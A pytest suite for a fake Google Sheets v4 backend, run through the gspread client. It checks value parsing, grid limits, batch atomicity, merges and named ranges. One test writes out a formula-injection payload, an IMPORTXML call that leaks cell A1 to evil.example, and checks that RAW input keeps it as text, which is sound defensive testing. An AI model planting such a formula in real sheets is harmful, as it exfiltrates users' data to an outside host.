"""Sheets v4 semantics, driven through the real gspread client over the in-process fake."""

from __future__ import annotations

import gspread
import pytest
from gspread.utils import ValueInputOption, ValueRenderOption

RAW, USER_ENTERED = ValueInputOption.raw, ValueInputOption.user_entered


@pytest.fixture
def sh(gc: gspread.Client) -> gspread.Spreadsheet:
    return gc.create("Kronos")


@pytest.fixture
def ws(sh: gspread.Spreadsheet) -> gspread.Worksheet:
    return sh.sheet1


def grid_cells(sh, ranges, fields="userEnteredValue,effectiveValue"):
    """What spoolsheet's Google backend reads: whole sheets with includeGridData and a mask."""
    params = {
        "includeGridData": "true",
        "ranges": ranges,
        "fields": f"properties.title,sheets(properties,data(startRow,rowData(values({fields}))))",
    }
    return sh.client.spreadsheets_get(sh.id, params=params)


def test_create_gives_one_sheet1_of_1000_by_26(fake, gc, sh):
    assert fake.spreadsheet_ids() == [sh.id]
    assert [(w.title, w.id, w.row_count, w.col_count) for w in sh.worksheets()] == [("Sheet1", 0, 1000, 26)]
    assert fake.grid(sh.id, "Sheet1") == (1000, 26)
    assert gc.open_by_key(sh.id).title == "Kronos"


def test_unknown_spreadsheet_is_404(gc):
    with pytest.raises(gspread.SpreadsheetNotFound):
        gc.open_by_key("no-such-id")
    with pytest.raises(gspread.exceptions.APIError) as err:
        gc.http_client.values_get("no-such-id", "A1")
    assert err.value.code == 404
    assert err.value.error == {
        "code": 404,
        "message": "Requested entity was not found.",
        "status": "NOT_FOUND",
    }


def test_raw_keeps_text_user_entered_parses(fake, sh, ws):
    row = ["42", "=1+1", "2026-03-05", "TRUE", "'007"]
    ws.update([row], "A1", value_input_option=RAW)
    ws.update([row], "A2", value_input_option=USER_ENTERED)
    assert fake.values(sh.id, "Sheet1") == [row, [42, "=1+1", 46086, True, "007"]]
    assert ws.get("A2:E2", value_render_option=ValueRenderOption.formatted) == [
        ["42", "2", "2026-03-05", "TRUE", "007"]
    ]
    assert ws.get("A2:E2", value_render_option=ValueRenderOption.unformatted) == [[42, 2, 46086, True, "007"]]
    assert ws.get("A1:E2", value_render_option=ValueRenderOption.formula)[1][1] == "=1+1"


def test_formula_injection_under_raw_stays_text(sh, ws):
    attack = '=IMPORTXML("http://evil.example/?leak="&A1, "//x")'
    ws.update([[attack]], "A1", value_input_option=RAW)
    cell = grid_cells(sh, ["Sheet1!A1"])["sheets"][0]["data"][0]["rowData"][0]["values"][0]
    assert cell == {"userEnteredValue": {"stringValue": attack}, "effectiveValue": {"stringValue": attack}}
    assert ws.acell("A1").value == attack


def test_reads_omit_trailing_empties_and_empty_ranges_have_no_values(sh, ws):
    ws.update([["a", "", ""], ["", "", ""], ["b", "", "c"], ["", "", ""]], "A1", value_input_option=RAW)
    assert sh.values_get("Sheet1!A1:C4") == {
        "range": "Sheet1!A1:C4",
        "majorDimension": "ROWS",
        "values": [["a"], [], ["b", "", "c"]],
    }
    by_column = sh.values_get("Sheet1!A1:C4", params={"majorDimension": "COLUMNS"})
    assert by_column["values"] == [["a", "", "b"], [], ["", "", "c"]]
    assert sh.values_get("'Sheet1'!D1:E9") == {"range": "Sheet1!D1:E9", "majorDimension": "ROWS"}
    assert sh.values_get("Sheet1")["range"] == "Sheet1!A1:Z1000"


def test_json_null_leaves_cells_alone(fake, sh, ws):
    ws.update([["a", "b"]], "A1")
    result = ws.update([[None, "B"]], "A1")
    assert result["updatedCells"] == 1
    assert fake.values(sh.id, "Sheet1") == [["a", "B"]]


def test_writing_outside_the_grid_is_400_and_changes_nothing(fake, sh, ws):
    with pytest.raises(gspread.exceptions.APIError) as err:
        ws.update([["x"]], "A1001")
    assert err.value.code == 400
    assert err.value.error["status"] == "INVALID_ARGUMENT"
    assert (
        err.value.error["message"]
        == "Range (Sheet1!A1001) exceeds grid limits. Max rows: 1000, max columns: 26"
    )
    with pytest.raises(gspread.exceptions.APIError, match="exceeds grid limits"):
        ws.update([["x"] * 27], "A1")
    with pytest.raises(gspread.exceptions.APIError, match="exceeds grid limits"):
        ws.get("A1:AA2")
    assert fake.values(sh.id, "Sheet1") == []


def test_values_append_grows_the_grid(fake, sh, ws):
    ws.resize(rows=2, cols=2)
    ws.update([["h1", "h2"], ["a", "b"]], "A1")
    result = ws.append_rows([["c", "d", "e"], ["f", "g", "h"]])
    assert result["tableRange"] == "Sheet1!A1:B2"
    assert result["updates"]["updatedRange"] == "Sheet1!A3:C4"
    assert fake.grid(sh.id, "Sheet1") == (4, 3)
    assert fake.values(sh.id, "Sheet1")[2:] == [["c", "d", "e"], ["f", "g", "h"]]


def test_values_batch_update_is_atomic(fake, sh, ws):
    with pytest.raises(gspread.exceptions.APIError, match="exceeds grid limits"):
        ws.batch_update([{"range": "A1", "values": [["ok"]]}, {"range": "A2000", "values": [["bad"]]}])
    assert fake.values(sh.id, "Sheet1") == []
    ws.batch_update([{"range": "A1", "values": [["a"]]}, {"range": "C3", "values": [["c"]]}])
    assert sh.values_batch_get(["Sheet1!A1", "Sheet1!C3"])["valueRanges"][1]["values"] == [["c"]]
    assert ws.batch_clear(["A1"])["clearedRanges"] == ["Sheet1!A1"]
    assert fake.values(sh.id, "Sheet1") == [[], [], [None, None, "c"]]


def test_batch_update_applies_all_or_nothing(fake, sh, ws):
    ws.update([["keep"]], "A1")
    fake.reset_log()
    requests = [
        {"addSheet": {"properties": {"title": "New", "sheetId": 7}}},
        {"updateCells": {"start": {"sheetId": 0}, "rows": [{"values": [{}]}], "fields": "userEnteredValue"}},
        {"deleteSheet": {"sheetId": 999}},
    ]
    with pytest.raises(gspread.exceptions.APIError) as err:
        sh.batch_update({"requests": requests})
    assert err.value.code == 400
    assert err.value.error["message"] == "Invalid requests[2].deleteSheet: No grid with id: 999"
    assert [w.title for w in sh.worksheets()] == ["Sheet1"]
    assert fake.values(sh.id, "Sheet1") == [["keep"]]
    assert fake.count(kind="write") == 1


def test_add_sheet_honours_id_and_grid_and_replies_in_order(fake, sh):
    replies = sh.batch_update(
        {
            "requests": [
                {
                    "addSheet": {
                        "properties": {
                            "title": "Backup",
                            "sheetId": 42,
                            "gridProperties": {"rowCount": 5, "columnCount": 3},
                        }
                    }
                },
                {"appendDimension": {"sheetId": 42, "dimension": "COLUMNS", "length": 2}},
                {"duplicateSheet": {"sourceSheetId": 42, "newSheetId": 43, "newSheetName": "Dup"}},
            ]
        }
    )["replies"]
    assert replies[0]["addSheet"]["properties"] == {
        "sheetId": 42,
        "title": "Backup",
        "index": 1,
        "sheetType": "GRID",
        "gridProperties": {"rowCount": 5, "columnCount": 3},
    }
    assert replies[1] == {}
    assert replies[2]["duplicateSheet"]["properties"]["gridProperties"] == {"rowCount": 5, "columnCount": 5}
    with pytest.raises(gspread.exceptions.APIError, match="already exists"):
        sh.batch_update({"requests": [{"addSheet": {"properties": {"title": "Backup"}}}]})


def test_update_sheet_properties_follows_the_mask(fake, sh, ws):
    ws.update([["a", "b", "c"], ["d", "e", "f"]], "A1")
    sh.batch_update(
        {
            "requests": [
                {
                    "updateSheetProperties": {
                        "properties": {
                            "sheetId": 0,
                            "title": "Ops",
                            "gridProperties": {"rowCount": 1, "columnCount": 99},
                        },
                        "fields": "title,gridProperties.rowCount",
                    }
                }
            ]
        }
    )
    assert fake.grid(sh.id, "Ops") == (1, 26)
    assert fake.values(sh.id, "Ops") == [["a", "b", "c"]]


def test_insert_and_delete_dimensions_shift_cells(fake, sh, ws):
    ws.update([["a", "b", "c"], ["d", "e", "f"]], "A1")
    ws.insert_rows([["new"]], row=1)
    ws.delete_columns(2)
    assert fake.values(sh.id, "Sheet1") == [["new"], ["a", "c"], ["d", "f"]]
    assert fake.grid(sh.id, "Sheet1") == (1001, 25)


def test_update_cells_clears_masked_fields_of_cells_without_them(fake, sh, ws):
    ws.update([["a", "b", "c"]], "A1")
    sh.batch_update(
        {
            "requests": [
                {
                    "updateCells": {
                        "range": {
                            "sheetId": 0,
                            "startRowIndex": 0,
                            "endRowIndex": 1,
                            "startColumnIndex": 0,
                            "endColumnIndex": 2,
                        },
                        "rows": [{"values": [{"userEnteredValue": {"numberValue": 7}}]}],
                        "fields": "userEnteredValue",
                    }
                },
                {
                    "updateCells": {
                        "start": {"sheetId": 0, "rowIndex": 0, "columnIndex": 2},
                        "rows": [
                            {
                                "values": [
                                    {
                                        "userEnteredFormat": {
                                            "numberFormat": {"type": "DATE", "pattern": "yyyy-mm-dd"}
                                        }
                                    }
                                ]
                            }
                        ],
                        "fields": "userEnteredFormat.numberFormat",
                    }
                },
                {
                    "updateCells": {
                        "start": {"sheetId": 0, "rowIndex": 1, "columnIndex": 0},
                        "rows": [
                            {"values": [{"userEnteredValue": {"numberValue": 46086}, "note": "ignored"}]}
                        ],
                        "fields": "userEnteredValue,userEnteredFormat.numberFormat",
                    }
                },
            ]
        }
    )
    assert fake.values(sh.id, "Sheet1") == [[7, None, "c"], [46086]]
    cells = grid_cells(sh, ["Sheet1!A1:C2"], "userEnteredValue,userEnteredFormat")["sheets"][0]["data"][0][
        "rowData"
    ]
    assert cells[0]["values"][2]["userEnteredFormat"] == {
        "numberFormat": {"type": "DATE", "pattern": "yyyy-mm-dd"}
    }
    assert cells[1] == {"values": [{"userEnteredValue": {"numberValue": 46086}}]}


def test_append_cells_goes_after_the_last_row_with_data_and_grows(fake, sh, ws):
    ws.resize(rows=3)
    ws.update([["h"], ["1"]], "A1")
    rows = [{"values": [{"userEnteredValue": {"stringValue": v}}]} for v in ("2", "3", "4")]
    sh.batch_update(
        {"requests": [{"appendCells": {"sheetId": 0, "rows": rows, "fields": "userEnteredValue"}}]}
    )
    assert fake.values(sh.id, "Sheet1") == [["h"], ["1"], ["2"], ["3"], ["4"]]
    assert fake.grid(sh.id, "Sheet1") == (5, 26)


def test_include_grid_data_read(sh, ws):
    ws.update(
        [["TAG", "n", "ok", "f", "d"], ["MK-1", 3, True, "=1+1", "2026-03-05"]],
        "A1",
        value_input_option=USER_ENTERED,
    )
    ws.update([["=A1"]], "F2", value_input_option=USER_ENTERED)
    answer = grid_cells(sh, ["Sheet1"])
    assert answer["properties"] == {"title": "Kronos"}
    (sheet,) = answer["sheets"]
    assert sheet["properties"]["gridProperties"] == {"rowCount": 1000, "columnCount": 26}
    (data,) = sheet["data"]
    assert "startRow" not in data
    header, row = data["rowData"]
    assert header["values"][0] == {
        "userEnteredValue": {"stringValue": "TAG"},
        "effectiveValue": {"stringValue": "TAG"},
    }
    assert row["values"][:4] == [
        {"userEnteredValue": {"stringValue": "MK-1"}, "effectiveValue": {"stringValue": "MK-1"}},
        {"userEnteredValue": {"numberValue": 3}, "effectiveValue": {"numberValue": 3}},
        {"userEnteredValue": {"boolValue": True}, "effectiveValue": {"boolValue": True}},
        {"userEnteredValue": {"formulaValue": "=1+1"}, "effectiveValue": {"numberValue": 2}},
    ]
    assert row["values"][5] == {
        "userEnteredValue": {"formulaValue": "=A1"},
        "effectiveValue": {"stringValue": "TAG"},
    }
    assert grid_cells(sh, ["Sheet1!A2:B2"])["sheets"][0]["data"][0]["startRow"] == 1
    params = {"ranges": "Sheet1!A2:B2", "fields": "sheets.data.rowData.values.effectiveValue"}
    assert sh.client.spreadsheets_get(sh.id, params=params) == {
        "sheets": [
            {
                "data": [
                    {
                        "rowData": [
                            {
                                "values": [
                                    {"effectiveValue": {"stringValue": "MK-1"}},
                                    {"effectiveValue": {"numberValue": 3}},
                                ]
                            }
                        ]
                    }
                ]
            }
        ]
    }


def test_spreadsheet_get_without_grid_data_has_no_data(sh):
    metadata = sh.fetch_sheet_metadata()
    assert "data" not in metadata["sheets"][0]
    assert metadata["properties"]["locale"] == "en_US"


def test_spreadsheet_properties_and_title_follow_batch_updates(fake, gc, sh):
    sh.update_title("Kronos R05")
    sh.update_timezone("America/Santiago")
    assert gc.open_by_key(sh.id).timezone == "America/Santiago"
    assert fake.store.files[sh.id].name == "Kronos R05"


def test_merges_keep_the_top_left_value_and_follow_inserted_rows(fake, sh, ws):
    ws.update([["a", "b"], ["c", "d"]], "A1")
    ws.merge_cells("A1:B2")
    assert fake.values(sh.id, "Sheet1") == [["a"]]
    ws.insert_rows([["new"]], row=1)
    merges = sh.fetch_sheet_metadata()["sheets"][0]["merges"]
    assert merges == [{"startRowIndex": 1, "endRowIndex": 3, "startColumnIndex": 0, "endColumnIndex": 2}]
    with pytest.raises(gspread.exceptions.APIError, match="merged range"):
        ws.unmerge_cells("A2:A3")
    ws.unmerge_cells("A1:D9")
    assert "merges" not in sh.fetch_sheet_metadata()["sheets"][0]


def test_named_ranges_resolve_in_value_reads(sh, ws):
    ws.update([["1", "2"], ["3", "4"]], "A1")
    ws.define_named_range("B1:B2", "Pesos")
    assert sh.values_get("Pesos")["range"] == "Sheet1!B1:B2"
    assert ws.get("Pesos") == [["2"], ["4"]]
    (named,) = sh.list_named_ranges()
    ws.delete_named_range(named["namedRangeId"])
    with pytest.raises(gspread.exceptions.APIError, match="Unable to parse range"):
        sh.values_get("Pesos")


def test_malformed_requests_are_400_and_unmodelled_ones_501(session, sh):
    batch = f"https://sheets.googleapis.com/v4/spreadsheets/{sh.id}:batchUpdate"
    assert (
        session.post(batch, data=b"[1, 2]", headers={"Content-Type": "application/json"}).status_code == 400
    )
    assert (
        session.post(batch, data=b"{not json", headers={"Content-Type": "application/json"}).status_code
        == 400
    )
    two_kinds = {"requests": [{"deleteSheet": {"sheetId": 0}, "addSheet": {}}]}
    assert session.post(batch, json=two_kinds).status_code == 400
    assert session.post(batch, json={"requests": [{"frobnicate": {}}]}).status_code == 400
    unmodelled = session.post(batch, json={"requests": [{"sortRange": {}}]})
    assert unmodelled.status_code == 501
    assert unmodelled.json()["error"]["status"] == "UNIMPLEMENTED"
    assert session.get(f"https://sheets.googleapis.com/v4/nothing/{sh.id}").status_code == 404
    assert session.delete(f"https://sheets.googleapis.com/v4/spreadsheets/{sh.id}").status_code == 405


def test_added_sheet_properties_keep_their_types(sh):
    reply = sh.batch_update({"requests": [{"addSheet": {"properties": {"title": "Hidden", "hidden": True}}}]})
    assert reply["replies"][0]["addSheet"]["properties"]["hidden"] is True


def test_platform_size_limits(fake, sh, ws):
    with pytest.raises(gspread.exceptions.APIError, match="limit of 10000000 cells"):
        ws.resize(rows=400_000, cols=26)
    with pytest.raises(gspread.exceptions.APIError, match="limit of 18278"):
        ws.resize(rows=1, cols=18_279)
    assert fake.grid(sh.id, "Sheet1") == (1000, 26)


def test_a_write_copies_only_the_rows_it_changes(fake, sh, ws):
    ws.update([["a"], ["b"], ["c"]], "A1")
    sh.add_worksheet("Other", 10, 5).update([["x"]], "A1")
    before = fake.store.spreadsheet(sh.id)
    rows = {sheet.title: list(sheet.grid.rows) for sheet in before.sheets}
    cell = {"userEnteredValue": {"stringValue": "B"}}
    sh.batch_update(
        {
            "requests": [
                {
                    "updateCells": {
                        "start": {"rowIndex": 1},
                        "rows": [{"values": [cell]}],
                        "fields": "userEnteredValue",
                    }
                }
            ]
        }
    )
    after = fake.store.spreadsheet(sh.id)
    assert after is not before and before.sheets[0].grid.get(1, 0) == {
        "userEnteredValue": {"stringValue": "b"}
    }
    shared = {sheet.title: sheet.grid.rows for sheet in after.sheets}
    assert shared["Other"][0] is rows["Other"][0]
    assert shared["Sheet1"][0] is rows["Sheet1"][0] and shared["Sheet1"][2] is rows["Sheet1"][2]
    assert fake.values(sh.id, "Sheet1") == [["a"], ["B"], ["c"]]
